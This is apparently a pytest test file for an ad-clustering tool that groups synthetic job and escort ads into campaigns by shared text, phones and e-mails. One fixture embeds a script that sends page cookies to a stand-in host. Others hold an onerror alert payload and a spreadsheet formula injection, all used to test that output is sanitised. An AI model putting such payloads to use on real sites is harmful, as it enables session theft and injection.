"""``palermo ads cluster`` on hand-made ads with known campaigns: near-duplicate text in Latin,
Cyrillic (with markup and script) and Thai (no spaces), an ad joined by its phone alone, a hub
e-mail that joins nothing, a 1 MB body, bad rows set aside by row and field, templates with slots."""

from __future__ import annotations

import csv
import json
from itertools import combinations
from pathlib import Path
from typing import Any

import pytest

from conftest import fail_cli, run_cli
from palermo.ads.cluster import _cell
from palermo.ads.text import plain, shingles

HEADER = ["ad_id", "posted_at", "site", "title", "body", "phone", "email", "location",
          "price", "image_hashes"]  # fmt: skip


def farm(i: int) -> list[str]:
    towns = ["Norfolk", "Lincoln", "Boston", "Wisbech", "Spalding", "Kings Lynn", "Ely", "March"]
    body = (f"Urgent: {10 + i} workers needed for farm work in {towns[i]}. Pay {400 + 10 * i}"
            " GBP a week, accommodation and travel paid, no documents needed, start"
            f" tomorrow. Call {['+44 7700 900123', '+44 7700 900456'][i % 2]} now")  # fmt: skip
    return [f"F{i}", f"2024-03-{i + 1:02d}T10:00:00Z", "jobs.example", "Farm work", body,
            ["+44 7700 900123", "+44 7700 900456"][i % 2], "", towns[i], "", ""]  # fmt: skip


def escort(i: int) -> list[str]:
    names = ["Алина", "Вика", "Даша", "Лена", "Маша", "Ира"]
    cities = ["Лондон", "Манчестер", "Бирмингем", "Лидс", "Ливерпуль", "Бристоль"]
    body = (f"<div><b>Новая девушка {names[i]}</b> в городе {cities[i]}!<script>"
            "document.location='http://x.example/'+document.cookie</script> Только сегодня,"
            " звоните в любое время, апартаменты в центре, фото реальные 100%.</div>")  # fmt: skip
    return [f"E{i}", f"2024-04-{i + 1:02d}T22:00:00Z", "escort.example", f"{names[i]} 21",
            body, "+44 7911 123456", "", cities[i], "120/h", f"img{i:02d};imgshared"]  # fmt: skip


def thai(i: int) -> list[str]:
    pay = ["15000", "18000", "20000", "22000", "25000"][i]
    body = (f"รับสมัครพนักงานนวดด่วนที่ประเทศมาเลเซียเงินเดือน{pay}บาทไม่ต้องมีประสบการณ์"
            "มีที่พักฟรีเดินทางฟรีติดต่อไลน์ได้ตลอดยี่สิบสี่ชั่วโมง")  # fmt: skip
    return [f"T{i}", f"2024-05-{i + 1:02d}", "jobs-th.example", "งานนวด", body, "", "", "", "",
            f"th{i}"]  # fmt: skip


def unrelated() -> list[list[str]]:
    texts = [
        "Second hand bicycle for sale, good condition, collection only from Leeds.",
        "Piano lessons for beginners and intermediate students, first lesson free.",
        "Lost cat near the station, grey with a white patch, answers to Misty.",
        "Garden maintenance: hedges, lawns and patios cleaned at fair prices.",
        "Room to let in a quiet house share, bills included, no pets please.",
    ]
    return [[f"U{i}", f"2024-06-{i + 1:02d}T09:00:00Z", "classifieds.example", "", t,
             "", "support@classifieds.example", "", "", ""]
            for i, t in enumerate(texts)]  # fmt: skip


@pytest.fixture
def ads_file(tmp_path: Path) -> Path:
    rows = [farm(i) for i in range(8)] + [escort(i) for i in range(6)] + [thai(i) for i in range(5)]
    rows += unrelated()
    # the same operation's phone on an ad with other words: joined by identifiers only
    rows.append(["F-phone", "2024-03-20T10:00:00Z", "jobs.example", "Drivers wanted",
                 "Van drivers wanted for night deliveries, own licence required.",
                 "07700 900123", "support@classifieds.example", "", "", ""])  # fmt: skip
    rows.append(["BIG", "2024-07-01T00:00:00Z", "spam.example", "x",
                 " ".join(f"w{k % 997}" for k in range(200_000))[:1_000_000], "",
                 "support@classifieds.example", "", "", ""])  # fmt: skip
    rows.append(
        ["", "2024-07-02T00:00:00Z", "s", "no id", "an ad without an id", "", "", "", "", ""]
    )
    rows.append(["F0", "2024-07-03T00:00:00Z", "s", "again", "a repeated id", "", "", "", "", ""])
    rows.append(["BADTIME", "next tuesday", "s", "when", "a time nobody can read", "", "", "", "",
                 ""])  # fmt: skip
    path = tmp_path / "ads.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(HEADER)
        w.writerows(rows)
    return path


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def pairs(groups: dict[str, str]) -> set[tuple[str, str]]:
    by: dict[str, list[str]] = {}
    for ad, g in groups.items():
        if g:
            by.setdefault(g, []).append(ad)
    return {tuple(sorted(p)) for ads in by.values() for p in combinations(ads, 2)}  # type: ignore[misc]


def truth(prefixes: tuple[str, ...]) -> set[tuple[str, str]]:
    ids = [f"F{i}" for i in range(8)] + [f"E{i}" for i in range(6)] + [f"T{i}" for i in range(5)]
    return {tuple(sorted((a, b))) for a, b in combinations(ids, 2)  # type: ignore[misc]
            if a[0] == b[0] and a[0] in prefixes}  # fmt: skip


def test_campaigns_by_text_identifiers_and_both(capsys: pytest.CaptureFixture[str],
                                                ads_file: Path, tmp_path: Path) -> None:  # fmt: skip
    out = tmp_path / "out"
    got: dict[str, Any] = run_cli(capsys, "ads", "cluster", str(ads_file), "--out", str(out),
                                  "--phone-region", "GB", "--hub", "6", "--json")  # fmt: skip
    assert got["ads"] == 26 and got["rejected"] == 3
    ads = {r["ad_id"]: r for r in read(out / "ads.csv")}
    text = pairs({a: r["text_group"] for a, r in ads.items()})
    assert text == truth(("F", "E", "T"))  # every near-duplicate pair, nothing else
    both = {a: r["campaign"] for a, r in ads.items()}
    assert both["F-phone"] == both["F0"] != "" and ads["F-phone"]["text_group"] == ""
    assert ads["F-phone"]["identifier_group"] == ads["F0"]["identifier_group"] != ""
    assert both["E0"] == both["E5"] != both["F0"] and both["T0"] == both["T4"]
    assert all(both[f"U{i}"] == "" for i in range(5)) and both["BIG"] == ""
    # the hub e-mail (7 ads > --hub 6) joined nothing and is listed
    assert {"kind": "email", "value": "support@classifieds.example", "ads": 7} in got["hubs"]
    campaigns = {r["campaign"]: r for r in read(out / "campaigns.csv")}
    assert len(campaigns) == 3
    farm_c = campaigns[both["F0"]]
    assert farm_c["ads"] == "9" and farm_c["linked_by"] == "text+identifiers"
    assert set(farm_c["phones"].split(";")) == {"+447700900123", "+447700900456"}
    rejected = read(out / "rejected.csv")
    assert [(r["row"], r["field"]) for r in rejected] == [("28", "ad_id"), ("29", "ad_id"),
                                                           ("30", "posted_at")]  # fmt: skip
    assert "repeats row 2" in rejected[1]["reason"]


def test_templates_show_the_shared_text_and_its_slots(capsys: pytest.CaptureFixture[str],
                                                      ads_file: Path, tmp_path: Path) -> None:  # fmt: skip
    out = tmp_path / "out"
    run_cli(capsys, "ads", "cluster", str(ads_file), "--out", str(out), "--phone-region", "GB",
            "--hub", "6")  # fmt: skip
    templates = [json.loads(x) for x in (out / "templates.jsonl").read_text().splitlines()]
    farm_t = next(t for t in templates if "farm work" in t["template"])
    assert "accommodation and travel paid, no documents needed" in farm_t["template"]
    assert "[1]" in farm_t["template"]
    seen = {v for s in farm_t["slots"] for v, _ in s["values"]}
    assert {"Norfolk", "Lincoln"} & seen
    esc = next(t for t in templates if "девушка" in t["template"])
    assert "апартаменты в центре" in esc["template"]
    th = next(t for t in templates if "บาท" in t["template"])
    assert "[1]" in th["template"] and "ไม่ต้องมีประสบการณ์" in th["template"]
    for name in ("campaigns.csv", "ads.csv", "templates.jsonl"):
        text = (out / name).read_text(encoding="utf-8")
        assert "<script" not in text and "document.cookie" not in text and "<div>" not in text


def test_visible_text_and_shingles() -> None:
    assert plain("<b>Hi</b> <script>alert(1)</script><style>p{}</style>there &amp; back") == (
        "Hi there & back"
    )
    assert plain("<img src=x onerror=alert(1)>Work from home") == "Work from home"
    assert plain("no markup  at\n all") == "no markup at all"
    s = shingles("รับสมัครพนักงาน")  # no spaces: characters still shingle
    assert len(s) == len("รับสมัครพนักงาน") - 4
    assert len(shingles("x" * 30_000 + "y")) == 1  # a body is shingled on its first 20,000
    # a spreadsheet must not run an ad's formula; a list of phones is left as it is
    assert _cell('=HYPERLINK("http://x")') == "'" + '=HYPERLINK("http://x")'
    assert _cell("+447700900123;+447700900456") == "+447700900123;+447700900456"


def test_other_layouts_and_errors(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "other.csv"
    with path.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["post", "when", "txt", "tel"])
        for i in range(4):
            w.writerow([f"P{i}", "2024-01-01", f"Cleaners wanted in Leeds, {9 + i} GBP an hour,"
                        " housing provided, cash paid daily, no papers", ""])  # fmt: skip
    out = tmp_path / "o"
    got = run_cli(capsys, "ads", "cluster", str(path), "--out", str(out), "--columns",
                  "id=post,time=when,body=txt,phone=tel", "--json")  # fmt: skip
    assert got["campaigns"] == 1 and got["ads_in_campaigns"] == 4
    err = fail_cli(capsys, "ads", "cluster", str(path), "--out", str(out))
    assert "no id column" in err
    err = fail_cli(capsys, "ads", "cluster", str(path), "--out", str(out), "--columns",
                   "id=nothing")  # fmt: skip
    assert "id=nothing: no such column" in err
    err = fail_cli(capsys, "ads", "cluster", str(tmp_path / "missing.csv"), "--out", str(out))
    assert "missing.csv" in err


def test_evaluate_on_the_simulated_case(capsys: pytest.CaptureFixture[str], served: Any,
                                        tmp_path: Path) -> None:  # fmt: skip
    got = run_cli(capsys, "ads", "evaluate", str(served.case), "--out", str(tmp_path / "e"),
                  "--json")  # fmt: skip
    assert got["ads"] > 50 and got["true_campaigns"] > 5
    modes = got["modes"]
    assert set(modes) == {"text", "identifiers", "both"}
    for m in modes.values():
        assert 0 <= m["precision"] <= 1 and 0 <= m["recall"] <= 1 and -1 <= m["ari"] <= 1
    # a shared phone or photo is the operation's own in the simulator: no false pair
    assert modes["identifiers"]["precision"] >= 0.95
    assert modes["both"]["recall"] >= max(modes["text"]["recall"], modes["identifiers"]["recall"])
